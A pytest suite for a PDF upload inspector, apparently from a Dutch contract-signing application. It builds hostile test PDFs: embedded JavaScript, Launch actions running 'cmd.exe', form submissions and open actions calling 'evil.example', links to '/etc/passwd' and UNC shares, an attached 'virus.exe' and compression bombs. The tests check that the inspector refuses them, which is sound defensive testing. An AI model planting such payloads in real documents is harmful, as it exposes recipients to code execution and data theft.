"""Which files are taken as a signed contract. Each is built here, by hand or by pikepdf."""

import io
import re
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from applications import limited, uploads


def script():
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def saved(build=None, **options):
    """A PDF of one page, as `build` leaves it."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        if build:
            build(pdf)
        file = io.BytesIO()
        pdf.save(file, **options)
    return file.getvalue()


def raw(*objects, root=b"1 0 R"):
    """A PDF written by hand, with a sound table of its objects."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    ending = b"trailer\n<</Size %d/Root %s>>\nstartxref\n%d\n%%%%EOF\n"
    return body + table + ending % (len(objects) + 1, root, len(body))


def stream(content, extra=b""):
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), extra, content)


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>%s>>"


def opens_with(action):
    return lambda pdf: pdf.Root.update({"/OpenAction": action})


def link(action):
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action
    )
    return lambda pdf: pdf.pages[0].update({"/Annots": Array([annotation])})


def annotation(subtype, **rest):
    found = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[0, 0, 9, 9], **rest)
    return lambda pdf: pdf.pages[0].update(
        {"/Annots": Array([pdf.make_indirect(found)])}
    )


def field_with_script(pdf):
    events = Dictionary(K=script())
    annotation(Name.Widget, FT=Name.Tx, T=String("iban"), AA=events)(pdf)
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].Annots)


def attached(pdf):
    pdf.attachments["virus.exe"] = b"MZ"


def names_tree(pdf):
    scripts = Dictionary(Names=Array([String("start"), pdf.make_indirect(script())]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(scripts))


def xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def no_page(pdf):
    del pdf.pages[0]


def uri(address):
    return Dictionary(S=Name.URI, URI=String(address))


def packed(content, times):
    """`content` as often as said, compressed twice, without ever making it."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(content) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, wbits=-15).flush()
    return zlib.compress(b"\x78\xda" + block * times + end, 9)


def bomb_of_objects():
    """An object stream that says it holds one thing, and unpacks to four gigabytes."""
    twice = b"/Filter[/FlateDecode/FlateDecode]"
    held = stream(packed(b" " * (1 << 20), 4096), b"/Type/ObjStm/N 1/First 4" + twice)
    body = b"%PDF-1.7\n"
    place = len(body)
    body += b"1 0 obj\n%s\nendobj\n" % held
    entries = b"\x00\x00\x00\x00\x00"
    entries += b"\x01" + place.to_bytes(3, "big") + b"\x00"
    entries += b"\x02" + (1).to_bytes(3, "big") + b"\x00"
    table = stream(entries, b"/Type/XRef/W[1 3 1]/Size 3/Root 2 0 R")
    return body + b"3 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(body))


HOSTILE = {
    "script": {
        "script when opened": saved(opens_with(script())),
        "script in the names tree": saved(names_tree),
        "script in an object stream": saved(
            names_tree, object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        "script on a page's event": saved(
            lambda pdf: pdf.pages[0].update({"/AA": Dictionary(O=script())})
        ),
        "script behind a link": saved(link(script())),
        "script after a harmless action": saved(
            opens_with(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script()))
        ),
        "script under an escaped name": raw(
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(1)>>>>",
            PAGES,
            PAGE % b"",
        ),
        "script in an object that nothing refers to": raw(
            CATALOGUE, PAGES, PAGE % b"", b"<</S/JavaScript/JS(1)>>"
        ),
        "script deep in arrays": raw(
            CATALOGUE, PAGES, PAGE % (b"/X" + b"[" * 90 + b"<</JS(1)>>" + b"]" * 90)
        ),
        "script in a field": saved(field_with_script),
    },
    "action": {
        "launches a program": saved(
            opens_with(Dictionary(S=Name.Launch, F=String("cmd.exe")))
        ),
        "launches a program on a click": saved(
            link(Dictionary(S=Name.Launch, F=String("cmd.exe")))
        ),
        "prints when opened": saved(opens_with(Dictionary(S=Name.Named, N=Name.Print))),
        "calls home when opened": saved(opens_with(uri("https://evil.example/"))),
        "sends a form": saved(
            link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))
        ),
        "imports data": saved(link(Dictionary(S=Name.ImportData, F=String("a.fdf")))),
        "goes to another file": saved(
            link(
                Dictionary(
                    S=Name.GoToR, F=String("\\\\evil\\share"), D=Array([0, Name.Fit])
                )
            )
        ),
        "goes to an embedded file": saved(link(Dictionary(S=Name.GoToE, D=Array([])))),
        "links to a file": saved(link(uri("file:///etc/passwd"))),
        "links to a share": saved(link(uri("\\\\evil\\share"))),
        "links to a share with slashes": saved(link(uri("//evil/share"))),
        "links to a script": saved(link(uri("javascript:alert(1)"))),
        "closes with an action": saved(
            lambda pdf: pdf.Root.update(
                {"/AA": Dictionary(WC=uri("https://evil.example"))}
            )
        ),
        "relative links that lead elsewhere": raw(
            b"<</Type/Catalog/Pages 2 0 R/URI<</Base(file://evil/)>>>>",
            PAGES,
            PAGE % b"",
        ),
        "page of another file": raw(
            CATALOGUE,
            PAGES,
            PAGE % b"",
            stream(b"", b"/Type/XObject/Subtype/Form/Ref<</F(a.pdf)/Page 0>>"),
        ),
        "file that belongs to it elsewhere": raw(
            b"<</Type/Catalog/Pages 2 0 R/AF[<</Type/Filespec/F(\\\\\\\\evil\\\\a)>>]>>",
            PAGES,
            PAGE % b"",
        ),
        "stream kept in another file": raw(
            CATALOGUE, PAGES, PAGE % b"", stream(b"", b"/F(/etc/passwd)")
        ),
    },
    "attachment": {
        "attachment": saved(attached),
        "attachment on the page": saved(
            annotation(Name.FileAttachment, FS=Dictionary(F=String("a.exe")))
        ),
    },
    "media": {
        "rich media": saved(annotation(Name.RichMedia)),
        "film on the page": saved(annotation(Name.Movie)),
        "sound as an action": saved(link(Dictionary(S=Name.Sound))),
    },
    "form": {
        "dynamic form": saved(xfa),
    },
    "encrypted": {
        "encrypted with a password": saved(
            encryption=pikepdf.Encryption(owner="a", user="b")
        ),
        "encrypted without a password": saved(
            encryption=pikepdf.Encryption(owner="a", user="")
        ),
    },
    "empty": {
        "no page": saved(no_page),
    },
    "damaged": {
        "no catalogue": raw(CATALOGUE, PAGES, PAGE % b"", root=b"9 0 R"),
        "pages in a circle": raw(
            CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>", PAGE % b""
        ),
        "cut off": saved()[:-40],
        "only a heading": b"%PDF-1.7\n",
        "nested without end": raw(CATALOGUE, PAGES, PAGE % (b"/X" + b"[" * 500_000)),
    },
}
NO_PDF = {
    "nothing": b"",
    "page of html": b"<html><script>alert(1)</script>",
    "heading after html": b"<script>alert(1)</script>" + saved(),
    "heading after one space": b" " + saved(),
    "program": b"MZ\x90\x00",
    "archive": b"PK\x03\x04",
    "heading in lower case": b"%pdf-1.7",
}


CASES = [
    pytest.param(content, reason, id=f"{reason}: {name}")
    for reason, files in HOSTILE.items()
    for name, content in files.items()
]


@pytest.mark.parametrize(("content", "reason"), CASES)
def test_inspect_refuses_and_says_why(content, reason):
    with pytest.raises(uploads.Unacceptable, match=re.escape(uploads.REASONS[reason])):
        uploads.inspect(content)


@pytest.mark.parametrize("content", NO_PDF.values(), ids=NO_PDF)
def test_inspect_refuses_what_is_no_pdf(content):
    with pytest.raises(uploads.Unacceptable, match="geen PDF-bestand"):
        uploads.inspect(content)


def test_inspect_refuses_a_large_file(settings):
    settings.UPLOAD_MAX_MEGABYTES = 1

    with pytest.raises(uploads.Unacceptable, match="groter dan 1 MB"):
        uploads.inspect(saved() + b" " * (1 << 20))


def test_inspect_ends_a_process_that_takes_too_long(monkeypatch):
    monkeypatch.setattr(limited, "SECONDS", 0.01)

    with pytest.raises(uploads.Unacceptable, match="te ingewikkeld"):
        uploads.inspect(saved())


def test_inspect_refuses_objects_that_unpack_to_gigabytes():
    with pytest.raises(uploads.Unacceptable):  # as damaged, or as too much work
        uploads.inspect(bomb_of_objects())


def test_inspect_is_not_held_up_by_a_million_objects():
    many = raw(CATALOGUE, PAGES, PAGE % (b"/X[" + b"<<>>" * 2_000_000 + b"]"))

    with pytest.raises(uploads.Unacceptable, match="te ingewikkeld"):
        uploads.inspect(many)


def test_inspect_never_unpacks_a_page():
    filters = b"/Filter[/FlateDecode/FlateDecode]"
    gigabyte = stream(packed(bytes(1 << 20), 1024), filters)
    bomb = raw(CATALOGUE, PAGES, PAGE % b"/Contents 4 0 R", gigabyte)

    uploads.inspect(bomb)  # a gigabyte would not fit in the child's memory

    assert len(bomb) < 10_000


def scan(pdf):
    image = pdf.make_stream(
        zlib.compress(bytes(100 * 141)),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=100,
        Height=141,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
        Filter=Name.FlateDecode,
    )
    page = pdf.pages[0]
    page.Resources = Dictionary(XObject=Dictionary(Scan=image))
    page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Scan Do Q")


def signed(pdf):
    signature = Dictionary(
        Type=Name.Sig,
        Filter=Name("/Adobe.PPKLite"),
        SubFilter=Name("/ETSI.CAdES.detached"),
        ByteRange=Array([0, 100, 200, 100]),
        Contents=String("0" * 64),
        M=String("D:20261123120000+01'00'"),
    )
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Sig,
        T=String("Handtekening"),
        Rect=[0, 0, 0, 0],
        V=pdf.make_indirect(signature),
        Lock=Dictionary(Type=Name.SigFieldLock, Action=Name.All),
    )
    field = pdf.make_indirect(field)
    pdf.pages[0].Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    pdf.Root.DSS = Dictionary(Certs=Array([pdf.make_stream(b"0")]))


FRIENDLY = {
    "one page": saved(),
    "scan": saved(scan),
    "digitally signed": saved(signed),
    "opens at its first page": saved(opens_with(Array([0, Name.Fit]))),
    "goes to its first page": saved(
        opens_with(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
    ),
    "link to the web": saved(link(uri("https://developers.kvk.nl/"))),
    "link without scheme": saved(link(uri("www.kvk.nl/apis"))),
    "link to an address": saved(link(uri("mailto:apisupport@kvk.nl"))),
    "object streams": saved(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "linearized": saved(linearize=True),
    "hand-written": raw(CATALOGUE, PAGES, PAGE % b""),
}


@pytest.mark.parametrize("content", FRIENDLY.values(), ids=FRIENDLY)
def test_inspect_passes(content):
    uploads.inspect(content)
